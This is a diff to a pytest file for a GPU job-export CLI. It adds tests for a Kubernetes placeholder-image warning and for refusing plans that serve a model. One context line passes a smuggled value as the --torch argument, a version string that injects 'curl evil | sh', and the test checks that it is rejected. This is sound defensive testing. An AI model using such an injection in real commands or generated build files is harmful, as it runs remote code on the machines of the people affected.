@@ -141,3 +141,37 @@ def test_a_torch_version_is_only_a_version(capsys: pytest.CaptureFixture[str]) -
     args = ["export", "dockerfile", "--gpu", "H100:8", "--torch", '2.5.1" && curl evil | sh && echo "']
     assert main(args) == 2
     assert "not a PyTorch version" in capsys.readouterr().err
+
+
+def test_k8s_without_image_warns_that_its_image_is_a_placeholder(
+    plan_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The Job would apply, and its pods would then fail to pull an image no registry serves."""
+    out = tmp_path / "job.yaml"
+    assert main(["export", "k8s", "--plan", str(plan_file), "--out", str(out)]) == 0
+    err = capsys.readouterr().err
+    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder" in err and "--image" in err
+    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder that no registry serves" in out.read_text(
+        encoding="utf-8"
+    )
+    image = "ghcr.io/me/ft:1"
+    assert main(["export", "k8s", "--plan", str(plan_file), "--image", image, "--out", str(out)]) == 0
+    assert "placeholder" not in capsys.readouterr().err + out.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("kind", ["skypilot", "k8s", "torchrun", "dockerfile"])
+def test_a_plan_for_serving_is_refused_with_the_machine_to_use(
+    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Every kind writes a training job (torchrun under gpuwise run): a serving plan would start the wrong
+    program, and on SkyPilot the idle stopper would stop the server. Exit 2, nothing written."""
+    doc = plan_doc(option())
+    doc["workload"] = {"name": "llama-serve", "task": "inference", "data": {"dataset_gb": 0}}
+    plan = tmp_path / "plan.json"
+    plan.write_text(json.dumps(doc), encoding="utf-8")
+    out = tmp_path / "out.txt"
+    assert main(["export", kind, "--plan", str(plan), "--out", str(out)]) == 2
+    err = capsys.readouterr().err
+    assert "Option 1 of the plan serves llama-serve, and gpuwise export writes training jobs" in err
+    assert "8× H100" in err and "Traceback" not in err
+    assert not out.exists()
